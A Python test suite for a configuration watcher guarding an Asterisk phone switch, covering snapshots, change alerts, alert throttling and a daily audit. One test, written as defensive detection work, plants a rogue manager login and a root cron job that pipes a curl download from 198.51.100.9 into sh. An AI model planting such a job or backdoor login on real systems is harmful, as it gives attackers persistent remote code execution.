"""The guard's look at the switch's configuration: snapshots in the journal, an alert of what is new."""

from __future__ import annotations

import asyncio
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from tests.pbx.asterisk.audit.test_configurations import FOLDER

from veilleur.config import JournalSection, Settings
from veilleur.config.settings import AuditSection
from veilleur.detection import Watch
from veilleur.evidence.configuration.store import SnapshotStore
from veilleur.guard.configuration import watching
from veilleur.guard.configuration.daily_audit import NoAuditError, new_weaknesses
from veilleur.guard.configuration.watching import ConfigurationWatch, watched_path
from veilleur.journal import Journal, JournalReader
from veilleur.pbx.asterisk.settings import AsteriskSettings
from veilleur.words.events import ConfigurationChanged, Event
from veilleur.words.site import Site

BEGAN = 1_780_000_000.0


class Looked:
    """A guard's look at a copy of a machine. Time goes on a minute with each look."""

    def __init__(self, folder: Path) -> None:
        self.root = folder / "machine"
        shutil.copytree(FOLDER / "hardened-22", self.root, dirs_exist_ok=True)
        self.settings = Settings(
            site=Site(name="Garage Martin"),
            switches=(AsteriskSettings(),),
            journal=JournalSection(folder / "journal.db"),
            audit=AuditSection(path=self.root, daily=False),
        )
        self.journal = Journal(self.settings.journal.file)
        self.now = BEGAN
        self.events: list[ConfigurationChanged] = []
        self.faults: list[BaseException] = []
        self.said: list[str] = []
        self.watch = self.started()

    def started(self) -> ConfigurationWatch:
        return ConfigurationWatch(
            self.settings,
            note=lambda note: self._note(note),
            emit=self._emit,
            say=self.said.append,
            on_fault=lambda _what, error: self.faults.append(error),
            now=lambda: self.now,
        )

    def look(self) -> list[ConfigurationChanged]:
        self.now += 60
        self.events = []
        asyncio.run(self.watch.look())
        self.journal.flush()
        return self.events

    def notes(self) -> list[dict[str, Any]]:
        reader = JournalReader(self.settings.journal.file)
        try:
            return [entry.data for entry in reader.entries(kind="note", holding='"note":"configuration"')]
        finally:
            reader.close()

    def _note(self, note: dict[str, Any]) -> None:
        self.journal.append_note("Garage Martin", self.now, note)

    def _emit(self, event: Event) -> None:
        assert isinstance(event, ConfigurationChanged)
        self.events.append(event)


@pytest.fixture
def looked(tmp_path: Path) -> Looked:
    return Looked(tmp_path)


def test_the_first_look_keeps_a_snapshot_and_the_next_ones_nothing(looked: Looked) -> None:
    assert looked.look() == []
    assert looked.look() == []
    (note,) = looked.notes()
    assert note["why"] == "start"
    kept = SnapshotStore.beside(looked.settings.journal.file).read(note["digest"])
    assert kept is not None
    assert "etc/asterisk/pjsip.conf" in kept.files


def test_a_new_manager_login_and_a_new_job_are_alerted_by_name(looked: Looked) -> None:
    looked.look()
    with (looked.root / "etc/asterisk/manager.conf").open("a") as file:
        file.write("\n[eve]\nsecret = a-long-secret-of-eve\nwrite = all\n")
    (looked.root / "etc/cron.d").mkdir(parents=True, exist_ok=True)
    (looked.root / "etc/cron.d/update").write_text("* * * * * root curl -s http://198.51.100.9/x | sh\n")
    found = {event.what: event.value for event in looked.look()}
    assert found["administrator"] == "AMI: eve"
    assert found["job"].startswith("etc/cron.d/update: * * * * * root curl")
    assert "a-long-secret-of-eve" not in str(found)
    assert looked.notes()[-1]["why"] == "change"


def test_what_was_changed_while_the_guard_was_stopped_is_alerted_at_its_start(looked: Looked) -> None:
    looked.look()
    looked.watch = looked.started()
    with (looked.root / "etc/asterisk/pjsip.conf").open("a") as file:
        file.write("\n[900]\ntype=endpoint\ncontext=from-internal\nauth=900\naors=900\n")
    looked.watch._remember()
    assert "PJSIP/900" in {event.value for event in looked.look()}


def test_a_dialplan_that_changes_each_minute_is_alerted_once_an_hour(looked: Looked) -> None:
    looked.look()
    said = 0
    for turn in range(70):
        with (looked.root / "etc/asterisk/extensions.conf").open("a") as file:
            file.write(f"\n; line {turn}\n")
        said += len([event for event in looked.look() if event.what == "dialplan"])
    assert said == 2


def test_an_incident_keeps_the_configuration_as_it_is(looked: Looked) -> None:
    looked.look()
    looked.watch.alerted("i4")
    looked.watch.alerted("i4")
    looked.look()
    looked.look()
    assert [(note["why"], note["incident"]) for note in looked.notes()] == [("start", ""), ("incident", "i4")]


def test_snapshots_go_with_the_numbers_of_people_but_for_a_legal_hold(looked: Looked) -> None:
    looked.look()
    store = SnapshotStore.beside(looked.settings.journal.file)
    looked.watch.forget_before(BEGAN - 1)
    assert len(store.kept()) == 1
    looked.watch.forget_before(BEGAN + 3_600)
    assert store.kept() == []


def test_the_change_is_one_alert_with_its_sentence() -> None:
    watch = Watch(Site(name="Garage Martin"), Settings(site=Site(name="Garage Martin")).numbering())
    event = ConfigurationChanged(BEGAN, BEGAN, "administrator", 1, "AMI: eve")
    (decision,) = watch.step(event)
    assert [reason.code for reason in decision.reasons] == ["new_administrator"]


def test_where_nothing_is_known_of_the_files_nothing_is_looked_at(tmp_path: Path) -> None:
    settings = Settings(switches=(AsteriskSettings(),), journal=JournalSection(tmp_path / "journal.db"))
    assert watched_path(settings) is None


def test_the_folder_of_this_machines_own_switch_means_the_machine(tmp_path: Path) -> None:
    settings = Settings(switches=(AsteriskSettings(directory=str(tmp_path)),))
    assert watched_path(settings) == tmp_path


def test_the_daily_audit_waits_until_the_guard_has_settled_and_then_a_day(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked = Looked(tmp_path)
    looked.settings = replace(
        looked.settings, audit=AuditSection(path=looked.root), source=tmp_path / "veilleur.toml"
    )
    looked.watch = looked.started()
    asked: list[tuple[float, bool]] = []

    async def audited(_path: Path, _config: Path, *, is_first: bool) -> list[str]:
        asked.append((looked.now - BEGAN, is_first))
        return [] if is_first else ["web-shell"]

    monkeypatch.setattr(watching, "new_weaknesses", audited)
    for _turn in range(24 * 60 + 12):
        looked.now += 60
        asyncio.run(looked.watch._audit_when_due())
    assert asked == [(600.0, True), (87_000.0, False)]
    assert [(event.what, event.value) for event in looked.events] == [("weakness", "web-shell")]


class Child:
    """A process that has ended. writes: what it wrote before."""

    def __init__(self, code: int, writes: bytes) -> None:
        self.returncode = code
        self.stdout = asyncio.StreamReader()
        self.stdout.feed_data(writes)
        self.stdout.feed_eof()

    async def wait(self) -> int:
        return self.returncode


FOUND = b'{"finding":{"code":"web-shell","is_new":true}}\n'


def audited_by(monkeypatch: pytest.MonkeyPatch, code: int, output: bytes = FOUND) -> None:
    async def start(*_words: object, **_streams: object) -> Child:
        return Child(code, output)

    monkeypatch.setattr(asyncio, "create_subprocess_exec", start)


@pytest.mark.parametrize("code", [0, 1])
def test_an_audit_with_findings_and_one_without_are_both_audits(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int
) -> None:
    audited_by(monkeypatch, code)
    assert asyncio.run(new_weaknesses(tmp_path, tmp_path, is_first=False)) == ["web-shell"]


@pytest.mark.parametrize("code", [2, 3, -9])
@pytest.mark.parametrize("is_first", [True, False])
def test_a_child_that_fails_is_no_audit_without_findings(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int, is_first: bool
) -> None:
    audited_by(monkeypatch, code)
    with pytest.raises(NoAuditError, match=f"exit code {code}"):
        asyncio.run(new_weaknesses(tmp_path, tmp_path, is_first=is_first))


def test_a_child_that_python_ended_is_no_audit_with_findings(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    audited_by(monkeypatch, 1, b"")
    with pytest.raises(NoAuditError, match="exit code 1"):
        asyncio.run(new_weaknesses(tmp_path, tmp_path, is_first=False))


def test_a_daily_audit_without_result_is_said_and_the_next_is_still_the_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked = Looked(tmp_path)
    looked.settings = replace(
        looked.settings, audit=AuditSection(path=looked.root), source=tmp_path / "veilleur.toml"
    )
    looked.watch = looked.started()
    asked: list[bool] = []

    async def audited(_path: Path, _config: Path, *, is_first: bool) -> list[str]:
        asked.append(is_first)
        if len(asked) == 1:
            raise NoAuditError("exit code {code}", code=3)
        return []

    monkeypatch.setattr(watching, "new_weaknesses", audited)
    for _day in range(3):
        looked.now += 86_400
        asyncio.run(looked.watch._audit_when_due())
    assert asked == [True, True, False]
    assert [("exit code 3" in one) for one in looked.said] == [True]
